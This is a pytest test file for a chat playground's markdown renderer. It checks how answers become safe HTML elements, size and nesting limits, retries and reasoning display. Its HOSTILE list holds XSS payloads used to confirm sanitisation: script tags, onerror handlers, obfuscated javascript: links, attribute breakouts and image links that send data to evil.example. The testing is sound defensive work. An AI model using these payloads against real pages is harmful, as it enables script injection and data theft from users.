"""Markdown of answers: what the page's route makes of it, and what a browser shows."""

from __future__ import annotations

import asyncio
import json
import threading

import pytest
from starlette.requests import Request

from quire.server.access.authentication import ApiKey
from quire.server.http.http_errors import ApiError
from quire.server.playground import markdown, rendering
from quire.server.playground.markdown import MAX_CHARACTERS, TooComplex, render
from tests.server.browser import ENTER
from tests.server.chat_page import Page

PATH = "/playground/render"
ANSWER = """\
# Title

A **bold** word, `code`, ~~gone~~ and <https://example.org/a?b=1>.
Second line

| Way | Time |
|:--|--:|
| set | 61 |

1. one
   - two

```python
print("<b>")  # fine
```

> quoted
"""
#: Each with what it must not become.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<style>*{display:none}</style><iframe src=//evil.example>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1))",
    "[a](\tjavascript:alert(1)) [b](<java\nscript:alert(1)>) [c](data:text/html,<script>1)",
    "[a](//evil.example) [b](/v1/models) [c](#x) [d](vbscript:x) [e](file:///etc/passwd)",
    "![secret](https://evil.example/?q=secret) ![][r]\n\n[r]: https://evil.example/pixel.png",
    '[a](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
    '```"><script>alert(1)</script>\ncode\n```',
    "<https://evil.example/\"onclick='alert(1)'>",
]


def flat(nodes):
    """Yield every element of a tree."""
    for node in nodes:
        if isinstance(node, list):
            yield node
            yield from flat(node[2:])


def elements(text):
    """Return the elements of a text."""
    return list(flat(node for _, node in render(text)))


def test_an_answer_becomes_elements(client):
    response = client.post(PATH, json={"text": ANSWER})
    blocks = response.json()["blocks"]
    assert [node[0] for _, node in blocks] == ["h3", "p", "table", "ol", "pre", "blockquote"]
    assert [ANSWER[start:][:3] for start, _ in blocks] == ["# T", "A *", "| W", "1. ", "```", "> q"]
    paragraph = blocks[1][1]
    assert ["a", {"href": "https://example.org/a?b=1"}, "https://example.org/a?b=1"] in paragraph
    assert ["br", {}] in paragraph and ["del", {}, "gone"] in paragraph
    assert blocks[2][1][2][2][3] == ["th", {"align": "right"}, "Time"]
    assert blocks[3][1] == ["ol", {}, ["li", {}, "one", ["ul", {}, ["li", {}, "two"]]]]
    assert blocks[4][1] == ["pre", {"language": "python"}, 'print("<b>")  # fine\n']


def test_blocks_begin_where_a_browser_counts():
    starts = [start for start, _ in render("😀 a\r\n\r\nb\n\n😀😀\n\nc")]
    text = "😀 a\r\n\r\nb\n\n😀😀\n\nc".encode("utf-16-le")
    assert [text[2 * start :].decode("utf-16-le")[0] for start in starts] == ["😀", "b", "😀", "c"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_text_and_checked_links_only(text):
    known = set(markdown.TAGS.values()) | {"a", "br", "code", "hr", "pre", "span"}
    for tag, attributes, *_ in elements(text):
        assert tag in known
        assert set(attributes) <= {"href", "language"}
        href = attributes.get("href", "https://")
        assert href.startswith(("https://", "http://", "mailto:")), href
        assert '"' not in href


@pytest.mark.parametrize(
    "piece",
    ["[", "*", "> ", "![", "_a", "[a](", "`a", "- ", "~~a", "a\n|-\n", "* a\n", "- a\n\n", "a|b\n",
     "[a]: b\n", "**a *b ", "\n", "> - ", "<a@", "&", "\\", "```\n"],
)  # fmt: skip
def test_text_that_would_take_long_ends_in_time(piece, monkeypatch):
    """The clock is counted instead of read: a text ends within its time or is refused."""
    looks = []

    def thread_time():
        looks.append(1)
        return len(looks) / 1000  # Each look is taken for a slice.

    monkeypatch.setattr(markdown.time, "thread_time", thread_time)
    monkeypatch.setattr(markdown.time, "monotonic", iter(range(10**9)).__next__)
    try:
        render(piece * (MAX_CHARACTERS // len(piece)))
    except TooComplex:
        assert len(looks) <= markdown.MAX_SECONDS * 1000 + 2


def test_wide_tables_and_long_paragraphs_stay_text():
    wide = "|a" * 1000 + "\n" + "|-" * 1000 + "\n" + "|b\n" * 10
    assert not any(tag == "table" for tag, *_ in elements(wide))
    ((_, paragraph),) = render("*a*," * 4000)
    assert paragraph[2:] == ["*a*," * 4000]


def test_what_cannot_be_read_is_refused(client):
    for text, status in (
        ("a" * (MAX_CHARACTERS + 1), 413),
        ("a" * 2**20, 413),
        ("> " * 100 + "deep", 400),
        (None, 400),
    ):
        response = client.post(PATH, json={"text": text})
        assert response.status_code == status, response.text
    assert client.post(PATH, content=b"text=a").status_code == 415
    assert client.get(PATH).status_code == 405


@pytest.mark.parametrize("num_paragraphs", [1, 8])
def test_emphasis_nested_without_end_is_refused(client, num_paragraphs):
    """Its tree was too deep for JSON (a 500), and its links were found in the square of it."""
    paragraph = "*a **b " * 580 + "c** d*" * 580
    text = "\n\n".join([paragraph] * num_paragraphs)
    response = client.post(PATH, json={"text": text})
    assert response.status_code == 400 and "without much nesting" in response.text
    with pytest.raises(TooComplex):
        render(text)


def test_nesting_counts_blocks_and_emphasis():
    def nested(num_quotes, num_strong):
        return "> " * num_quotes + "**a *b " * num_strong + "c* d**" * num_strong

    for num_quotes, num_strong in ((0, 19), (30, 4)):
        assert len(elements(nested(num_quotes, num_strong))) == num_quotes + 1 + 2 * num_strong
        with pytest.raises(TooComplex):
            render(nested(num_quotes, num_strong + 1))


def test_only_a_link_holds_no_other_link():
    """A first line that is ``a`` was taken for one."""
    address = ["a", {"href": "https://x.org"}, "https://x.org"]
    assert render("a\nhttps://x.org")[0][1][2:] == ["a", ["br", {}], address]
    links = [tag for tag, *_ in elements("[**a https://y.org**](https://x.org) https://x.org")]
    assert links == ["p", "a", "strong", "a"]


def test_one_mebibyte_of_marks_leaves_the_server_answering(client):
    for piece in "[*>":
        response = client.post(PATH, json={"text": piece * 2**20})
        assert response.status_code == 413
    assert client.post(PATH, json={"text": "*a*"}).json() == {
        "blocks": [[0, ["p", {}, ["em", {}, "a"]]]]
    }


# --- In a browser


def test_markdown_is_shown_as_elements(scripted, engine):
    engine.text = ANSWER
    scripted.ask("Hi")
    count = "return document.querySelectorAll(`article:last-child ${arguments[0]}`).length"
    for selector in ("h3", "strong", "del", "table td[data-align=right]", "ol ul", "blockquote"):
        assert scripted.run(count, selector) == 1, selector
    link = "const a = document.querySelector('.body a'); return [a.href, a.rel, a.target]"
    assert scripted.run(link) == [
        "https://example.org/a?b=1", "noopener noreferrer nofollow", "_blank"
    ]  # fmt: skip
    code = scripted.run("return document.querySelector('.code pre').textContent")
    assert code == 'print("<b>")  # fine'
    scripted.browser.cdp("Browser.grantPermissions", permissions=["clipboardReadWrite"])
    scripted.run("""
        const code = document.querySelector(".code");
        window.said = "";  // it is said for a moment
        new MutationObserver(() => { said += code.innerText; })
            .observe(code, { childList: true, subtree: true, characterData: true });
    """)
    scripted.click("Copy", ".code")
    scripted.browser.wait("said.includes('Copied')")


def test_a_hostile_answer_can_do_nothing(scripted, engine):
    """Each in a new conversation of the same page: a call counts whenever it comes."""
    browser = scripted.browser
    browser.complaints()
    scripted.run("""
        window.called = [];
        new PerformanceObserver((list) => called.push(...list.getEntries().map((e) => e.name)))
            .observe({ type: "resource", buffered: false });
        window.alert = () => called.push("alert");
    """)
    wrong = {}
    for text in HOSTILE:
        scripted.click("New chat")
        engine.text = text
        scripted.ask("<b>Hi</b>")
        assert scripted.run("return document.querySelectorAll('#log article').length") == 2
        if found := _done_by_an_answer(scripted):
            wrong[text] = found
    assert not wrong


def _done_by_an_answer(scripted):
    """Return elements, links, attributes, calls and complaints that none may lead to."""
    tags = "#log :is(script, img, iframe, style, b, svg, object, form:not(.notice form))"
    found = scripted.run(
        "return [...document.querySelectorAll(arguments[0])].map((e) => e.outerHTML)", tags
    )
    hrefs = "return [...document.querySelectorAll('#log a')].map((a) => a.getAttribute('href'))"
    found += [href for href in scripted.run(hrefs) if not href.startswith(("https://", "http://"))]
    events = """return [...document.querySelectorAll('#log *')].flatMap(
        (e) => e.getAttributeNames().filter((n) => n.startsWith("on") || n === "style"))"""
    found += scripted.run(events)
    found += [name for name in scripted.run("return called") if not name.startswith(scripted.url)]
    return found + scripted.browser.complaints()


def test_a_tree_that_lies_is_built_from_known_elements_only(scripted, engine):
    """Even a server that sends something else (another version, say) cannot make it run."""
    tree = [[0, ["script", {}, "called = 1"]], [1, ["img", {"src": "/x", "onerror": "called=1"}]],
            [2, ["a", {"href": "javascript:called=1"}, "x"]]]  # fmt: skip
    scripted.run(
        """
        const real = window.fetch;
        window.fetch = (path, options) => String(path).includes("render")
            ? Promise.resolve(new Response(arguments[0])) : real(path, options);
        """,
        json.dumps({"blocks": tree}),
    )
    scripted.ask("Hi")
    html = scripted.run("return document.querySelector('article:last-child .body').outerHTML")
    assert "<script" not in html and "<img" not in html and "javascript" not in html
    assert "called" not in scripted.run("return Object.keys(window)")


def test_a_text_that_cannot_be_read_is_shown_as_it_is(scripted, engine):
    engine.text = "> " * 60 + "deep"
    scripted.ask("Hi")
    assert scripted.bodies()[1] == engine.text


def open_kept(page, *answers):
    """Open a conversation that the browser has kept."""
    store = """
        const messages = arguments[0].flatMap((content) =>
            [{ role: "user", content: "Hi" }, { role: "assistant", content }]);
        localStorage.setItem("quire.chat.kept", JSON.stringify({ messages, title: "Kept" }));
    """
    page.open()
    page.run(store, answers)
    page.open()
    page.click("Kept")


def test_an_answer_is_read_once_the_key_is_given(chromium, serve):
    """One refusal left it as plain text until the page was loaded again."""
    page = Page(chromium, str(serve(api_key="secret").base_url))
    open_kept(page, "**b**")
    page.wait_for("**b**", "article:last-child .body.plain")
    page.wait_for("needs an API key", "#notice")
    page.last()
    chromium.keys("#notice input", "secret" + ENTER)
    chromium.wait("document.querySelector('.body strong')")


#: Puts failures with ``statuses`` before the route's answers; seconds pass as hundredths.
FAIL = """
    const [real, sleep] = [window.fetch, window.setTimeout];
    window.waits = [];
    window.statuses = arguments[0];
    window.fetch = (path, options) => {
        if (!String(path).includes("render") || !statuses.length) return real(path, options);
        const status = statuses.shift();
        return status ? Promise.resolve(new Response("{}", { status }))
            : Promise.reject(new TypeError("no network"));
    };
    window.setTimeout = (run, ms) => {
        if (ms >= 1000) waits.push(ms / 1000);
        return sleep(run, ms / 100);
    };
"""


def test_a_failure_that_may_pass_is_tried_again_in_growing_time(scripted):
    open_kept(scripted, "a", "b")
    scripted.last()  # one of these would meet the first failure
    scripted.run(FAIL, [0, 500, 502, 503, 401, 403, 0, 0])
    scripted.click("New chat")
    open_answers = """
        const messages = ["**c**", "**d**"].map((content) => ({ role: "assistant", content }));
        const kept = { messages, title: "Other" };
        localStorage.setItem("quire.chat.other", JSON.stringify(kept));
        dispatchEvent(new StorageEvent("storage", { key: "quire.chat.other" }));
    """
    scripted.run(open_answers)
    scripted.click("Other")
    scripted.browser.wait("document.querySelectorAll('.body strong').length == 2")
    assert scripted.run("return waits") == [1, 2, 4, 8, 16, 32, 60, 60]


def test_a_refusal_of_the_text_is_final(scripted, engine):
    engine.text = "**b**"
    scripted.run(FAIL, [400])
    scripted.ask("Hi")
    assert scripted.bodies() == ["Hi", "**b**"]
    assert scripted.run("return waits") == []


def test_a_piece_does_not_end_inside_of_a_character(scripted):
    """The server refused the half of an emoji, and the whole answer stayed plain text."""
    open_kept(scripted, "**b**\n\n" + "😀" * 10000, "**b**\n\n " + "😀" * 10000)
    scripted.last()
    assert scripted.run("return document.querySelectorAll('.body strong').length") == 2
    assert scripted.bodies()[1] == "b" + "😀" * 10000


def test_a_long_answer_is_read_in_pieces(scripted, engine):
    engine.text = "```\n" + "code\n" * 8000 + "```\n\n"
    engine.text += "".join(f"Paragraph **{i}** of it.\n\n" for i in range(4000))
    assert len(engine.text) > MAX_CHARACTERS
    open_kept(scripted, engine.text)
    scripted.last()
    assert scripted.run("return document.querySelectorAll('.body strong').length") == 4000
    assert scripted.run("return document.querySelectorAll('.body pre').length") == 1


def test_reasoning_is_live_and_folded(chromium, serve, engine):
    page = Page(chromium, str(serve(reasoning_parser="qwen3").base_url))
    page.open()
    engine.text = "<think>\nI **weigh** it.\nStill weighing\n</think>\n\nFour."
    engine.hold_after = len("<think>\nI **weigh** it.\nStill weighing")
    chromium.keys("#prompt", "2 + 2" + ENTER)
    page.wait_for("Thinking", "details summary")
    page.wait_for("Still", "details summary")
    assert not page.run("return document.querySelector('details').open")
    chromium.click("details summary")
    page.wait_for("I weigh it.", ".thought")
    engine.released.set()
    page.last()
    page.wait_for("Thought", "details summary")
    page.wait_for("Still weighing", ".thought")
    assert page.run("return document.querySelector('.thought strong').textContent") == "weigh"
    assert page.bodies() == ["2 + 2", "Four."]
    page.open()
    page.last()
    assert not page.run("return document.querySelector('details').open")
    chromium.click("details summary")
    page.wait_for("I weigh it.", ".thought")


def test_the_other_name_of_reasoning_is_read(scripted):
    """Some servers send ``reasoning`` alone."""
    shown = scripted.run("""
        return import("/playground/api.js").then(({ receiver }) => {
            const message = { content: "", tokens: [] };
            const take = receiver(message);
            take({ choices: [{ delta: { reasoning: "a" } }] });
            take({ choices: [{ delta: { reasoning: "b", reasoning_content: "b" } }] });
            take({ choices: [{ delta: { content: "c" } }] });
            return [message.reasoning, message.content];
        });
    """)
    assert shown == ["ab", "c"]


def test_a_key_with_many_texts_does_not_keep_the_others_waiting(monkeypatch):
    """Sixteen hard texts of one key had those of all others refused, for as many seconds."""
    read, released = [], threading.Event()

    def render_slowly(text):
        read.append(text)
        assert released.wait(60)
        return b"{}"

    async def ask(text):
        async def receive():
            return {"type": "http.request", "body": json.dumps({"text": text}).encode()}

        headers = [(b"content-type", b"application/json")]
        scope = {"type": "http", "headers": headers, "api_key": ApiKey.create(text, name=text)}
        try:
            return (await reads.answer(Request(scope, receive))).status_code
        except ApiError as error:
            return error.status

    async def ask_all():
        texts = ["a"] * (rendering.MAX_WAITING + 2) + ["b"]
        asking = [asyncio.create_task(ask(text)) for text in texts]
        await asyncio.wait(asking, return_when=asyncio.FIRST_COMPLETED)
        released.set()
        return await asyncio.gather(*asking)

    monkeypatch.setattr(rendering, "_render", render_slowly)
    reads = rendering.Rendering()
    statuses = asyncio.run(ask_all())
    assert statuses == [200] * (rendering.MAX_WAITING + 1) + [429, 200]
    assert "b" in read[:3] and len(read) == rendering.MAX_WAITING + 2
